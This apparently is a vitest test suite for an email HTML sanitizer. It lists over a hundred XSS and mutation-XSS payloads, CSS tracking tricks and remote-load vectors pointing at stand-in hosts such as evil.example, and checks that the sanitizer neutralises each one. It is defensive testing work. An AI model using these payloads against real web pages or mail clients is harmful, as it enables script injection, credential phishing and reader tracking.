import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { words } from '#tests/support/words.ts';
import { sanitizeMailHtml } from './sanitize-html.ts';

const sanitized = (html: string) => sanitizeMailHtml(html).html;

/** Every element of the result with its attributes and text, as a parser sees them. */
function elements(html: string): { name: string; attributes: Record<string, string>; text: string }[] {
  const found: { name: string; attributes: Record<string, string>; text: string }[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => void found.push({ name, attributes: { ...attributes }, text: '' }),
    ontext: (text) => {
      if (found.length) found.at(-1)!.text += text;
    },
  });
  parser.end(html);
  return found;
}

const FORBIDDEN_TAGS =
  /^(script|iframe|frame|frameset|object|embed|applet|svg|math|form|input|button|select|textarea|link|meta|base|template|noscript|xmp|plaintext|title|video|audio|source|track|picture|portal|dialog|marquee|bdo|head)$/;

const HARMFUL_CSS =
  /url|image-set|@import|@font-face|@keyframes|expression|javascript|fixed|sticky|behavior|binding|animation|\/\*|</i;

/** CSS without its strings, which can say anything. */
const cssOf = (text: string) => text.replace(/"[^"]*"|'[^']*'/g, '""');

/** Fails if anything runs, loads by itself, links to an unknown scheme or follows the reader while scrolling. */
function expectHarmless(html: string): void {
  for (const { name, attributes, text } of elements(html)) {
    expect(name).not.toMatch(FORBIDDEN_TAGS);
    if (name === 'style') expect(cssOf(text)).not.toMatch(HARMFUL_CSS);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).not.toMatch(
        /^(on|xlink|xmlns|form)|^(name|srcset|background|poster|action|ping|lowsrc|dynsrc)$/i,
      );
      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:)/);
      if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);/i);
      if (/^data-(remote-src|tracker)$/.test(attribute)) expect(value).toMatch(/^https?:/);
      if (attribute === 'style') expect(cssOf(value)).not.toMatch(HARMFUL_CSS);
    }
  }
}

describe('hostile HTML', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)" onload=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src=`x` onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><script>alert(1)</script>"></noframes>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a title="</title><script>alert(1)</script>">',
    '<iframe><p title="</iframe><script>alert(1)</script>"></iframe>',
    '<plaintext><script>alert(1)</script>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<template><script>alert(1)</script></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&NewLine;:alert(1)">x</a>',
    '<a href=" \u00a0javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://example.org/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:javascript:1">x</a>',
    '<a href="//evil.example" ping="https://evil.example/p">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html,<script>">',
    '<img src="data:image/png,<svg onload=alert(1)>">',
    '<img src="blob:x">',
    '<img srcset="https://t.example/a 1x, https://t.example/b 2x">',
    '<picture><source srcset="https://t.example/a"><img src="https://t.example/b"></picture>',
    '<input type=image src="https://t.example/a">',
    '<video poster="https://t.example/a" src="https://t.example/b"><source src="https://t.example/c"></video>',
    '<audio src="https://t.example/a" autoplay></audio>',
    '<table background="https://t.example/a"><tr><td background="https://t.example/b">x</td></tr></table>',
    '<body background="https://t.example/a">x</body>',
    '<link rel=stylesheet href="https://t.example/a.css">',
    '<link rel="dns-prefetch" href="//t.example"><link rel=preconnect href=//t.example>',
    '<link rel=prefetch href=https://t.example><link rel=icon href=https://t.example>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="x-dns-prefetch-control" content="on">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
    '<button form=f formaction=javascript:alert(1)>x</button>',
    '<isindex action=javascript:alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src=javascript:alert(1)></frameset>',
    '<object data="javascript:alert(1)"><param name=x></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x></applet>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<details open ontoggle=alert(1)>x</details>',
    '<style>@import url(https://t.example/a.css); body{background:url(https://t.example/b)}</style>',
    '<style>input[value^=a]{background:url(https://t.example/a)}</style>',
    '<p style="background:url(https://t.example/a)">x</p>',
    '<p style="background:URL( \'https://t.example/a\' )">x</p>',
    '<p style="background:u\\72l(https://t.example/a)">x</p>',
    '<p style="background:u/**/rl(https://t.example/a)">x</p>',
    '<p style="background-image:image-set(\'https://t.example/a\' 1x)">x</p>',
    '<p style="background:var(--x);--x:url(https://t.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="wid\\th:e\\xpression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
    '<p style="pos\\69tion:absolute">x</p>',
    '<p style="list-style:url(https://t.example/a);content:url(https://t.example/b);cursor:url(https://t.example/c)">x</p>',
    '<p style="font-family:\'a;position:fixed\'">x</p>',
    "<p style='color:red;\"><img src=x onerror=alert(1)>'>x</p>",
    '<p style="margin:-9999px;text-indent:-99em">x</p>',
    '<a id=location name=cookie class=admin href=https://x.example>x</a><img name=getElementById>',
    '<p id="__proto__" constructor=1 __proto__=1>x</p>',
    '<a href="https://x.example" style="display:block;position:absolute">x</a>',
    '<div title="&lt;/div&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<img alt="`><script>alert(1)</script>" src=x>',
    '<a href="https://x.example/&quot;onmouseover=alert(1) x=&quot;">x</a>',
    '<\u0000script>alert(1)</script>',
    '<img src=x\u0000 onerror\u0000=alert(1)>',
    '<div\fonclick=alert(1)>x</div>',
    '<portal src=https://evil.example></portal><dialog open>x</dialog>',
    '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
    '<keygen autofocus onfocus=alert(1)><bgsound src=https://t.example/a>',
    '<image src=https://t.example/a onerror=alert(1)>',
    '<layer src=https://t.example></layer><ilayer src=https://t.example>',
  ])('%s', (html) => {
    const once = sanitized(html);
    expectHarmless(once);
    expect(sanitized(once.replaceAll('data-remote-src', 'src'))).toBe(once);
  });

  test('stays harmless however the pieces are combined', () => {
    const piece = fc.constantFrom(
      ...[...words('< > " = / <!-- --> <![CDATA[ ]]> &lt; &#60; &quot;'), "'", '`', '\0', '\n', ' '],
      ...[...words('<svg> </svg> <math> <style> </style> <title> </title> <xmp> <noscript>'), '<p title="'],
      ...[
        '<img src=x onerror=alert(1)>',
        '<a href=javascript:1>',
        '<script>',
        '</script>',
        '<p style="',
        'color:red',
        'url(x)',
      ],
      ...[...words('<table> <td> </p> <form> <iframe> <textarea> <plaintext> onload= x <b> </b>'), '\\'],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        expectHarmless(sanitized(pieces.join('')));
      }),
      { numRuns: 1500 },
    );
  });
});

describe('mail HTML', () => {
  test('keeps the usual layout of email', () => {
    const html =
      '<table width="600" align="center" bgcolor="#ffffff" cellpadding="0" border="0" style="border-collapse:collapse">' +
      '<tr><td style="padding:10px 0;font-family:\'Segoe UI\', Arial;color:rgb(10, 20, 30)" valign="top" colspan="2">' +
      '<h1>Title</h1><p>Text <b>bold</b> <font color="#ff0000" size="2">red</font></p></td></tr></table>';
    const kept = sanitized(html);
    expect(kept).toContain(
      '<table width="600" align="center" bgcolor="#ffffff" cellpadding="0" border="0" style="border-collapse:collapse">',
    );
    expect(kept).toContain("font-family:'Segoe UI', Arial;color:rgb(10, 20, 30)");
    expect(kept).toContain('<font color="#ff0000" size="2">red</font>');
  });

  test('opens links in a new tab and shows their real destination', () => {
    expect(sanitized('<a href="https://example.org/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitized('<a href="mailto:a@example.org">x</a>')).toContain('href="mailto:a@example.org"');
    expect(sanitized('<a href="https://аpple.example">x</a>')).toContain(
      'href="https://xn--pple-43d.example/"',
    );
    expect(sanitized('<a href="/relative">x</a>')).toBe('<a>x</a>');
  });

  test('blocks remote images, names attached ones and keeps embedded ones', () => {
    expect(sanitized('<img src="https://t.example/p.gif?u=1" width="1" alt="">')).toBe(
      '<img width="1" alt="" data-tracker="https://t.example/p.gif?u=1" />',
    );
    expect(sanitized('<img src="//t.example/p.gif">')).toBe(
      '<img data-remote-src="https://t.example/p.gif" />',
    );
    expect(sanitized('<img src="cid:logo%40x">')).toBe('<img data-cid="logo@x" />');
    expect(sanitized('<img src="data:image/png;base64,AAAA">')).toBe(
      '<img src="data:image/png;base64,AAAA" />',
    );
  });

  test('removes characters that reverse the reading direction', () => {
    expect(sanitized('<b title="a&#x202e;b">evil&#8238;moc.elpmaxe</b>')).toBe(
      '<b title="ab">evilmoc.elpmaxe</b>',
    );
  });

  test('drops comments and Outlook conditional blocks', () => {
    expect(sanitized('a<!--[if mso]><p>only there</p><![endif]--><![if !mso]><b>b</b><![endif]>')).toBe(
      'a<b>b</b>',
    );
  });

  test('shows extreme nesting as text', () => {
    expect(sanitized('<b>'.repeat(5000))).toMatch(/^<pre>&lt;b&gt;/);
    expect(elements(sanitized(`${'<div>'.repeat(900)}deep`)).length).toBeLessThan(200);
  });
});

describe('a mail that is too large to show', () => {
  const image = `<img src="data:image/png;base64,${'A'.repeat(100_000)}">`;
  /** Formatting elements that a browser opens again in every block, because nothing closes them. */
  const unclosed = (count: number) =>
    Array.from({ length: count }, (_, nth) => `<font class="c${nth}">`).join('');
  const rules = (count: number, rule: (nth: number) => string) =>
    `<style>${Array.from({ length: count }, (_, nth) => rule(nth)).join('')}</style>`;

  test.each([
    ['elements', '<p>x</p>'.repeat(60_000), 5000 * 8],
    ['links', '<a href="https://a.test/">x</a>'.repeat(12_000), 1000 * 94],
    ['characters', 'x'.repeat(900_000), 100_000],
    ['changes of script', 'aб1א '.repeat(90_000), 7700],
    ['inline elements around its text', `${'<span>'.repeat(120)}${'x'.repeat(90_000)}`, 1640 + 120 * 13],
    [
      'elements that are opened again',
      `<p>${unclosed(100)}</p>${'<p>x</p>'.repeat(4000)}`,
      100 * 18 + 50 * 8,
    ],
    ['characters of a script without spaces', `<p>${'กรุงเทพมหานคร'.repeat(4000)}</p>`, 10_010],
    [
      'cells that cover others',
      `<table>${'<tr><td colspan="99" rowspan="99">x</td></tr>'.repeat(4000)}</table>`,
      2 * 52 + 20,
    ],
    ['alternative texts', `<img alt="${'x'.repeat(1000)}">`.repeat(900), 100 * 1014],
    ['bytes', image.repeat(20), 2 ** 20],
    ['characters of source', `${image.repeat(5)}${'<!-- x -->'.repeat(60_000)}<p>lost</p>`, 5 * 100_040],
  ])('is cut where it has too many %s', (_, html, atMost) => {
    const safe = sanitizeMailHtml(html);
    expect(safe.cut).toBe(true);
    expect(safe.html.length).toBeGreaterThan(atMost * 0.85);
    expect(safe.html.length).toBeLessThanOrEqual(atMost);
    expect(sanitizeMailHtml(safe.html.replaceAll('data-remote-src', 'src')).html).toBe(safe.html);
  });

  test('loses the accents that are piled up on one letter, however they are written', () => {
    for (const pile of [
      '\u0e49'.repeat(90_000),
      '&#3657;'.repeat(90_000),
      '<b>&#3657;&#8205;</b>'.repeat(4000),
    ]) {
      const { html } = sanitizeMailHtml(`<p>a${pile}b</p>`);
      expect(html.match(/\u0e49/g)!.length).toBeLessThanOrEqual(30);
    }
    const real = '<p>Zoë ก็ที่สุด ﷺ e\u0301\u0323 👩\u200d👩\u200d👧\ufe0f preheader\u200c\u00a0\u200c\u00a0</p>';
    expect(sanitizeMailHtml(real).html).toBe(real);
  });

  test('keeps what comes first, and closes what is open', () => {
    const rows = '<tr><td><b>x</b></td></tr>'.repeat(3000);
    const { html } = sanitizeMailHtml(`<h1>First</h1><div><table>${rows}</table></div><p>last</p>`);
    expect(html).toMatch(/^<h1>First<\/h1><div><table><tr><td><b>x<\/b>/);
    expect(html).toMatch(/<\/table><\/div>$/);
    for (const tag of ['div', 'table', 'tr', 'td', 'b'])
      expect(html.split(`<${tag}>`)).toHaveLength(html.split(`</${tag}>`).length);
  });

  const many = '<p class="a">x</p>'.repeat(4000);
  const deep = (inside: string) => `${'<div>'.repeat(100)}${inside}${'</div>'.repeat(100)}`;
  test.each([
    ['siblings', rules(400, (nth) => `b${nth}~p{color:red}`) + many],
    ['one sibling rule', `<style>b~p{color:red}</style>${many}`],
    ['ancestors', rules(20, (nth) => `div .x${nth} .a{color:red}`) + deep(many)],
    ['any element', rules(500, (nth) => `:not(.x${nth}):not(i){left:1px}`) + many],
    ['many declarations', rules(300, () => `p{${'left:1px;top:2px;'.repeat(30)}}`) + many],
    ['grids in grids', `<style>.g{display:grid}</style>${'<div class="g">'.repeat(4)}${many}`],
    [
      'grids in unclosed tables',
      `<style>.g{display:grid}</style>${'<div class="g"><table><tr><td></div>'.repeat(4)}`,
    ],
    ['grids in attributes', '<div style="display:grid">'.repeat(4)],
    ['text in inline boxes', `<style>div{display:inline}</style>${deep('x'.repeat(9000))}`],
    ['generated boxes', `<style>p::before,p:after{content:"x"}</style>${many}${many}`],
  ])('is shown without styles that take too long: %s', (_, html) => {
    const safe = sanitizeMailHtml(html);
    expect(safe.cut).toBe(true);
    expect(safe.html).not.toMatch(/<style|style=/);
  });

  test('keeps the same rules where they are cheap', () => {
    const html =
      rules(100, (nth) => `.x${nth} + p, table td.a${nth} > b, #x a:hover::before{color:red}`) +
      `<style>p ~ .a{color:red}</style>${deep('<p class="a">x</p><table><tr><td>x</td></tr></table>'.repeat(50))}`;
    expect(sanitizeMailHtml(html)).toMatchObject({ cut: false });
    expect(sanitized(html)).toContain('<style>');
  });
});
